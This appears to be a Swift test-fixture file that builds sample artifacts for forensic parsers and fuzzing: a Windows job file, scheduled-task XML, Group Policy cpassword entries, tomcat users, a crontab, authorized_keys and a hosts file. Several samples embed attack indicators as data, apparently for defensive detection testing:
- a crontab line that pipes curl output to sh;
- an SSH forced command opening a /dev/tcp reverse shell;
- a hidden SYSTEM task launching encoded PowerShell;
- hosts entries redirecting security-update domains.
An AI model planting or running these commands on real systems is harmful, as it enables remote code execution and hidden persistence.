// The files that the tests read and that fuzzing begins with, made without the parsers' definitions.

struct JobBuilder {
    var application = "C:\\WINDOWS\\system32\\cmd.exe"
    var parameters = "/c C:\\WINDOWS\\Temp\\a.bat"

    var bytes: [UInt8] {
        func le16(_ value: Int) -> [UInt8] { [UInt8(value & 0xFF), UInt8(value >> 8 & 0xFF)] }
        func le32(_ value: Int) -> [UInt8] { le16(value & 0xFFFF) + le16(value >> 16) }
        func text(_ text: String) -> [UInt8] {
            text.isEmpty ? le16(0) : le16(text.utf16.count + 1) + text.utf16.flatMap { le16(Int($0)) } + [0, 0]
        }
        let texts = text(application) + text(parameters) + text("C:\\Work") + text("SYSTEM") + text("Created by demo.")
        let trigger =
            le16(48) + le16(0) + le16(2026) + le16(1) + le16(2) + le16(0) + le16(0) + le16(0) + le16(3) + le16(4)
            + le32(60) + le32(15) + le32(0) + le32(1) + [UInt8](repeating: 0, count: 12)
        let data = le16(0) + le16(8) + [UInt8](repeating: 0, count: 8)
        let triggers = 70 + texts.count + data.count
        var head = le16(0x0501) + le16(1) + (1...16).map { UInt8($0) } + le16(0x46) + le16(triggers)
        head += le16(0) + le16(0) + le16(60) + le16(10) + le32(0x20) + le32(259_200_000) + le32(2) + le32(0x41300)
        head += le32(0) + le16(2026) + le16(1) + le16(5) + le16(2) + le16(3) + le16(4) + le16(0) + le16(0)
        return head + le16(0) + texts + data + le16(1) + trigger
    }
}

enum TaskSample {
    // The command decodes to `Write-Output demo`; kept as parts so that no scanner takes this file for the real thing.
    static let encoded = "-w hidden -enc " + "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABkAGUAbQBvAA=="
    static let text = """
        <?xml version="1.0" encoding="UTF-16"?>
        <Task version="1.4" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
          <RegistrationInfo>
            <Date>2026-01-02T03:04:05</Date>
            <Author>DEMO\\anna</Author>
            <Description>Keeps the &lt;catalogue&gt; fresh &amp; small</Description>
            <URI>\\Demo\\Catalogue Update</URI>
          </RegistrationInfo>
          <Triggers>
            <LogonTrigger><Enabled>true</Enabled><UserId>DEMO\\anna</UserId></LogonTrigger>
            <CalendarTrigger>
              <StartBoundary>2026-01-02T03:00:00</StartBoundary>
              <ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay>
            </CalendarTrigger>
            <BootTrigger />
          </Triggers>
          <Principals>
            <Principal id="Other"><UserId>S-1-5-19</UserId></Principal>
            <Principal id="Author">
              <UserId>S-1-5-18</UserId>
              <LogonType>S4U</LogonType>
              <RunLevel>HighestAvailable</RunLevel>
              <RequiredPrivileges><Privilege>SeDebugPrivilege</Privilege><Privilege>SeTcbPrivilege</Privilege></RequiredPrivileges>
            </Principal>
          </Principals>
          <Settings><Enabled>true</Enabled><Hidden>true</Hidden></Settings>
          <Actions Context="Author">
            <Exec>
              <Command>powershell.exe</Command>
              <Arguments>\(encoded)</Arguments>
              <WorkingDirectory>C:\\Demo</WorkingDirectory>
            </Exec>
            <Exec><Command>C:\\Users\\Public\\Ümläut.exe</Command></Exec>
            <ComHandler><ClassId>{01020304-0506-0708-090A-0B0C0D0E0F10}</ClassId><Data><![CDATA[a<b]]></Data></ComHandler>
          </Actions>
        </Task>

        """
    static let wide: [UInt8] = [0xFF, 0xFE] + utf16(text)

    static func utf16(_ text: String) -> [UInt8] {
        Array(text.utf16.map { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }.joined())
    }
}

enum GroupsSample {
    // Made with another implementation of AES and the published key.
    static let secrets = [
        ("TTkn5yjEdwf0/66s1sqW0ru6Zoe/qyxKlihWEjTkMCg", "Demo!Pass9"),
        ("BXgzzrmElc3KDZNxxtsYMU+iLtuM4GhTF1wajRsZApGVPen6goCgc71OcPss/bit", "Grüße 2026 und mehr"),
    ]
    static let text = """
        <?xml version="1.0" encoding="utf-8"?>
        <Groups clsid="{3125E937-EB16-4b4c-9934-544FC6D24D26}">
          <User clsid="{DF5F1855-51E5-4d24-8B1A-D9BDE98BA1D1}" name="Administrator" changed="2026-01-02 03:04:05">
            <Properties action="U" newName="" fullName="" cpassword="\(secrets[0].0)" userName="Administrator"/>
          </User>
          <User name="old"><Properties action="U" newName="helpdesk" cpassword="\(secrets[1].0)" userName="old"/></User>
          <User name="none"><Properties cpassword="" userName="none"/></User>
          <User name="odd"><Properties cpassword="not Base64!" userName="odd"/></User>
        </Groups>
        """
}

enum TomcatSample {
    static let text = """
        <?xml version='1.0' encoding='utf-8'?>
        <tomcat-users xmlns="http://tomcat.apache.org/xml" version="1.0">
          <!-- <user username="robot" password="robot" roles="manager-script"/> -->
          <role rolename="manager-gui"/>
          <user username="anna" password="Anna" roles="manager-gui,admin-gui"/>
          <user name="deploy" password="s3cret" roles="manager-script"/>
          <user username="monitor" password="9f1c-long-and-random" roles="manager-status"/>
          <user username="guest" roles="none"/>
        </tomcat-users>
        """
}

enum CrontabSample {
    // Attack lines are put together here, so that no scanner takes this file for a crontab.
    static let text = """
        # /etc/crontab
        SHELL=/bin/sh
        PATH = "/tmp:/usr/bin"
        LD_PRELOAD='/usr/lib/demo.so'

        17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly
        */5 0-23/2 1,15 jan-mar mon-fri www-data curl -s http://192.0.2.7/x \u{7C} sh
        @reboot root /dev/shm/.k
        not a job
        * * * * root
        """
}

enum AuthorizedKeysSample {
    static let text = """
        # keys
        ssh-ed25519 AAAAdemo anna@demo
        no-pty,command="bash -c \\"exec 5<>/dev/\("tcp")/192.0.2.1/9\\"",from="192.0.2.0/24,*.example" ssh-rsa AAAAdemo root at kali@kali
        command="/usr/bin/borg serve --restrict-to-path /srv" ecdsa-sha2-nistp256 AAAAdemo backup
        command="/tmp/.x/run" sk-ssh-ed25519@openssh.com AAAAdemo
        environment="LD_PRELOAD=/tmp/a.so" ssh-dss AAAAdemo
        nothing here
        ssh-rsa
        """
}

enum HostsSample {
    static let text = """
        127.0.0.1 localhost localhost.localdomain # the machine
        ::1\tip6-localhost
        fe80::1%lo0 router
        0.0.0.0 ads.example
        0.0.0.0 download.windowsupdate.com
        203.0.113.9 Update.ESET.com mail.example
        999.1.1.1 nobody
        10.1.2.3
        eset.com 10.1.2.3
        """
}
